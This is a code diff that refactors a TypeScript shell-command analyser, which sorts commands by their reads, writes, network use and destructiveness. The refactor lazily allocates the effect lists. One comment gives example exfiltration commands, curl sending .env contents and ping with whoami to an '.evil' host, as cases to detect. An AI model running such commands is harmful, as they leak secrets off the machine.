@@ -74,7 +74,6 @@ export interface LineAnalysis {
 }
 
 const MAX_NESTING = 8;
-const NO_HOSTS: readonly Word[] = Object.freeze([]);
 const APPENDED = dynamicWord('(arguments added at run time)');
 const SYSTEM_DIRS = /^\/(usr\/)?(local\/)?s?bin\/[^/]+$/;
 const EXEMPT_DEVICES = new Set(['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/stdin', '/dev/tty']);
@@ -411,20 +410,26 @@ function short(text: string): string {
   return t.length > 60 ? `${t.slice(0, 57)}...` : t;
 }
 
+/**
+ * A shared empty list for every effect a command does not have: most commands have one or two
+ * kinds of effect, and nine fresh arrays per command were a tenth of a short line's analysis
+ * before the JIT has optimized it.
+ */
+const NONE: readonly never[] = Object.freeze([]);
+
 class ReportBuilder {
-  private readonly reads: Word[] = [];
-  private readonly trees: { root: Word; how: TreeRead }[] = [];
-  private readonly writes: WriteTarget[] = [];
-  private readonly removes: Word[] = [];
-  private readonly notRO: string[] = [];
-  private readonly destructive: string[] = [];
-  private readonly envs: { name: string; value: Word }[] = [];
-  private readonly lingering: string[] = [];
+  private reads: Word[] | undefined;
+  private trees: { root: Word; how: TreeRead }[] | undefined;
+  private writes: WriteTarget[] | undefined;
+  private removes: Word[] | undefined;
+  private notRO: string[] | undefined;
+  private destructive: string[] | undefined;
+  private envs: { name: string; value: Word }[] | undefined;
+  private lingering: string[] | undefined;
   private usesNetwork = false;
-  /** Made on the first host: most commands connect nowhere. */
   private hosts: Word[] | undefined;
   private stdinCode = false;
-  private readonly unknown: string[] = [];
+  private unknown: string[] | undefined;
   private isTransparent = false;
 
   constructor(
@@ -444,29 +449,29 @@ class ReportBuilder {
   }
 
   read(target: Word): void {
-    this.reads.push(target);
+    (this.reads ??= []).push(target);
   }
 
   readTree(root: Word, how: TreeRead): void {
-    this.reads.push(root);
-    this.trees.push({ root, how });
+    (this.reads ??= []).push(root);
+    (this.trees ??= []).push({ root, how });
   }
 
   write(target: Word, how: WriteHow, why: string, viaRedirect = false): void {
-    this.writes.push({ target, how, viaRedirect });
-    this.notRO.push(why);
-    if (how === 'overwrite' || how === 'modify') this.destructive.push(why);
+    (this.writes ??= []).push({ target, how, viaRedirect });
+    (this.notRO ??= []).push(why);
+    if (how === 'overwrite' || how === 'modify') (this.destructive ??= []).push(why);
   }
 
   remove(target: Word, why: string): void {
-    this.removes.push(target);
-    this.notRO.push(why);
-    this.destructive.push(why);
+    (this.removes ??= []).push(target);
+    (this.notRO ??= []).push(why);
+    (this.destructive ??= []).push(why);
   }
 
   opaque(why: string): void {
-    this.notRO.push(why);
-    this.destructive.push(why);
+    (this.notRO ??= []).push(why);
+    (this.destructive ??= []).push(why);
   }
 
   runsStdin(why: string): void {
@@ -477,35 +482,34 @@ class ReportBuilder {
   /** Runs code that exists only at run time: nothing about it can be checked. */
   unknownCode(why: string): void {
     this.opaque(why);
-    this.unknown.push(why);
+    (this.unknown ??= []).push(why);
   }
 
   network(why: string, sends: boolean): void {
     this.usesNetwork = true;
-    this.notRO.push(why);
-    if (sends) this.destructive.push(why);
+    (this.notRO ??= []).push(why);
+    if (sends) (this.destructive ??= []).push(why);
     else if (this.argv.some((w) => w.expansions.includes('command'))) {
       // `curl "https://x/?d=$(cat .env)"`, `ping "$(whoami).evil"`: command output leaves the machine.
-      this.destructive.push(`${why}, carrying command output in its arguments`);
+      (this.destructive ??= []).push(`${why}, carrying command output in its arguments`);
     }
   }
 
   destination(host: Word): void {
-    this.hosts ??= [];
-    this.hosts.push(host);
+    (this.hosts ??= []).push(host);
   }
 
   change(why: string, destructive: boolean): void {
-    this.notRO.push(why);
-    if (destructive) this.destructive.push(why);
+    (this.notRO ??= []).push(why);
+    if (destructive) (this.destructive ??= []).push(why);
   }
 
   notReadOnly(why: string): void {
-    this.notRO.push(why);
+    (this.notRO ??= []).push(why);
   }
 
   linger(why: string): void {
-    this.lingering.push(why);
+    (this.lingering ??= []).push(why);
   }
 
   transparent(): void {
@@ -513,7 +517,7 @@ class ReportBuilder {
   }
 
   env(name: string, value: Word): void {
-    this.envs.push({ name, value });
+    (this.envs ??= []).push({ name, value });
   }
 
   build(): CommandReport {
@@ -521,18 +525,18 @@ class ReportBuilder {
       argv: this.argv,
       via: this.via,
       transparent: this.isTransparent,
-      env: this.envs,
+      env: this.envs ?? NONE,
       cwd: this.cmd.cwd,
-      reads: this.reads,
-      readTrees: this.trees,
-      writes: this.writes,
-      removes: this.removes,
-      notReadOnly: this.notRO,
-      destructive: this.destructive,
-      lingers: this.lingering,
+      reads: this.reads ?? NONE,
+      readTrees: this.trees ?? NONE,
+      writes: this.writes ?? NONE,
+      removes: this.removes ?? NONE,
+      notReadOnly: this.notRO ?? NONE,
+      destructive: this.destructive ?? NONE,
+      lingers: this.lingering ?? NONE,
       network: this.usesNetwork,
-      hosts: this.hosts ?? NO_HOSTS,
-      unknownCode: this.unknown,
+      hosts: this.hosts ?? NONE,
+      unknownCode: this.unknown ?? NONE,
       runsStdin: this.stdinCode,
       stdin: this.cmd.stdin,
       start: this.cmd.start,
